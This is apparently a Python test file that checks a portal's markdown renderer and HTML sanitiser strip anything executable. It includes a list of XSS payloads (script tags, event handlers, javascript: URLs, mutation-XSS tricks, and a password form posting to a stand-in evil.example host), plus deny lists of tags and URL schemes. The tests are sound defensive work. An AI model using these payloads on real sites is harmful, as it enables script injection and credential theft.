import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from typing_extensions import override

from portal.articles.markdown import Rendering, render
from portal.articles.markdown.clean import clean
from portal.kernel.locale import Locale

RENDERING = Rendering(Locale.EN, {"trap": "javascript:alert(1)"}, "/media/en/x/")
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "object", "embed", "form", "input", "button", "link", "meta"),
    *("base", "svg", "math", "template", "video", "audio", "frame", "frameset", "noscript"),
}
ADDRESSES = {"href", "src", "action", "formaction", "srcset", "xlink:href", "poster", "data"}


class Seen(HTMLParser):
    """What a browser would find in a text: its tags, and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    seen = Seen(re.sub(r'<svg class="icon".*?</svg>', "", html))  # drawn by us afterwards
    assert not seen.tags & FORBIDDEN_TAGS
    for name, value in seen.attributes:
        assert not name.startswith("on")
        assert name not in {"style", "srcdoc", "target", "srcset"}
        if name in ADDRESSES:
            plain = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33)))).lower()
            assert not plain.startswith(("javascript:", "data:", "vbscript:", "http:", "file:"))


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'/>",
    "<p onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x]({{ trap }})",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "x{: style='position:fixed' onclick='alert(1)' }",
    "## x {: #a onclick=alert(1) }",
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<object data='x'></object><embed src='x'><base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<div markdown='1'><script>alert(1)</script></div>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "/// info | <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n///",
    "/// tab | <img src=x onerror=alert(1)>\nx\n///",
    "| <script>a</script> |\n|--|\n| <img src=x onerror=a> |",
    '++ctrl+"<img src=x onerror=a>"++',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_disguises_itself_is_left(attack):
    assert_harmless(render(attack, RENDERING).html)


@pytest.mark.parametrize("tag", ["script", "style", "template", "svg", "math"])
def test_what_stood_inside_code_that_runs_goes_with_it(tag):
    assert clean(f"<p>a<{tag}>alert(1)</{tag}>b</p>") == "<p>ab</p>"


def test_code_that_is_shown_is_still_shown():
    code = "`<script>alert(1)</script>`"

    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in render(code, RENDERING).html


def test_links_of_ours_and_safe_ones_stay():
    for address in (
        "article:a",
        "page:b",
        "flow:c",
        "https://d.example",
        "mailto:e@f.example",
        "/g",
    ):
        assert f'href="{address}"' in clean(f'<a href="{address}">x</a>')


_PARTS = st.sampled_from(
    [
        *"<>\"'=/ \n`*[]()!#&;:{}|-\x00é",
        *("script", "style", "svg", "img", "a", "href", "src", "onload", "<p ", "x"),
        *("javascript:", "&#x6a;", "{{ trap }}", "/// tab | ", "///\n", "```"),
    ]
)


@given(st.lists(_PARTS, max_size=25).map("".join))
@example("<a href='javascript\x00:x'>")
def test_whatever_is_written_nothing_that_runs_comes_out(source):
    made = render(source, RENDERING).html

    assert_harmless(made)
    assert "<script" not in made.lower()


@given(st.lists(st.one_of(_PARTS, st.sampled_from(ATTACKS)), max_size=6).map("".join))
def test_attacks_do_not_help_each_other(source):
    assert_harmless(clean(source))
